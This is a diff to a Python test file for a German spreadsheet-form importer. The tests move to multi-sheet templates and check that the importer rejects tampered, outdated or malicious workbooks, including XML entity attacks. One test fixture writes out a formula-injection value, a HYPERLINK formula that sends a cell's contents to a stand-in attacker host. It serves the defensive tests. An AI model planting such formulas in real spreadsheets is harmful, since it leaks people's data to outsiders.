@@ -120,7 +120,7 @@ def test_problems_name_file_sheet_cell_and_question(kit: Any, tmp_path: Path) ->
     answers.pop("family_name")
     target = tmp_path / "fehler.xlsx"
     codes = kit.fill("de", answers, target)
-    rows = {name: row for row, _n, name, choice in codes.rows if not choice}
+    rows = {name: row for _sheet, row, _n, name, choice in codes.rows if not choice}
     result = import_workbook(target, form, today=TODAY, display="fehler.xlsx")
     assert result.intake is None
     found = {p.render() for p in result.problems}
@@ -145,7 +145,7 @@ def test_formula_in_an_answer_cell_is_reported(kit: Any, tmp_path: Path) -> None
     answers["street"] = '=HYPERLINK("http://evil.example/?"&C20,"Klick")'
     target = tmp_path / "formel.xlsx"
     codes = kit.fill("de", answers, target)
-    row = next(r for r, _n, name, _c in codes.rows if name == "street")
+    row = next(r for _s, r, _n, name, _c in codes.rows if name == "street")
     result = import_workbook(target, form, today=TODAY, display="formel.xlsx")
     assert result.intake is None
     assert [p.render() for p in result.problems] == [
@@ -227,7 +227,7 @@ def test_workbook_that_is_not_our_template(tmp_path: Path) -> None:
 
 def test_template_with_changed_hidden_codes(filled: Path, tmp_path: Path) -> None:
     workbook = load_workbook(filled)
-    workbook["_codes"]["C20"] = "family_name"  # an answer would land in the wrong field
+    workbook["_codes"]["D20"] = "family_name"  # an answer would land in the wrong field
     workbook.save(tmp_path / "codes.xlsx")
     assert "die versteckten Codes der Vorlage wurden verändert" in refused(tmp_path / "codes.xlsx")
 
@@ -244,16 +244,18 @@ def test_template_of_another_form_version(kit: Any, tmp_path: Path) -> None:
     form_file = tmp_path / "alt.yaml"
     bundled = Path(load_form().source)
     form_file.write_text(
-        bundled.read_text("utf-8").replace('version: "2025-11-24.1"', 'version: "2024-01-01.1"'),
+        bundled.read_text("utf-8").replace(
+            f'version: "{load_form().version}"', 'version: "2024-01-01.1"'
+        ),
         "utf-8",
     )
     old_form = load_form(form_file)
     from seiteneinsteiger.forms.template import write_template
 
     with (tmp_path / "alt.xlsx").open("wb") as handle:
-        write_template(old_form, "de", handle)
+        write_template(old_form, "de", handle, key=kit.key)
     assert refused(tmp_path / "alt.xlsx") == (
-        "alt.xlsx: Vorlage der Formularversion 2024-01-01.1; aktuell ist 2025-11-24.1"
+        f"alt.xlsx: Vorlage der Formularversion 2024-01-01.1; aktuell ist {load_form().version}"
     )
 
 
@@ -358,7 +360,13 @@ BILLION_LAUGHS = (
 
 @pytest.mark.parametrize(
     "member",
-    ["xl/worksheets/sheet1.xml", "xl/workbook.xml", "xl/styles.xml", "xl/worksheets/sheet3.xml"],
+    [
+        "xl/worksheets/sheet1.xml",
+        "xl/workbook.xml",
+        "xl/styles.xml",
+        "xl/worksheets/sheet2.xml",
+        "xl/worksheets/sheet4.xml",
+    ],
 )
 def test_xml_entity_attacks(filled: Path, tmp_path: Path, member: str) -> None:
     with zipfile.ZipFile(filled) as archive:
@@ -429,10 +437,9 @@ def test_import_never_raises_anything_but_our_errors(
     form = load_form()
     data, codes = kit.template_bytes("ar")
     workbook = load_workbook(io.BytesIO(data))
-    sheet = workbook[codes.sheet]
-    rows = [row for row, *_ in codes.rows]
     for index, value in changes:
-        sheet[f"{codes.answer_column}{rows[index % len(rows)]}"] = value
+        sheet_name, row, *_ = codes.rows[index % len(codes.rows)]
+        workbook[sheet_name][f"{codes.answer_columns[sheet_name]}{row}"] = value
     target = tmp_path / "zufall.xlsx"
     workbook.save(target)
     try:
@@ -442,4 +449,4 @@ def test_import_never_raises_anything_but_our_errors(
     else:
         assert result.ok or any(p.is_error for p in result.problems)
         for problem in result.problems:
-            assert problem.cell and problem.cell.startswith("Formular!")
+            assert problem.cell is None or problem.cell.startswith(("Formular!", "Beratung!"))
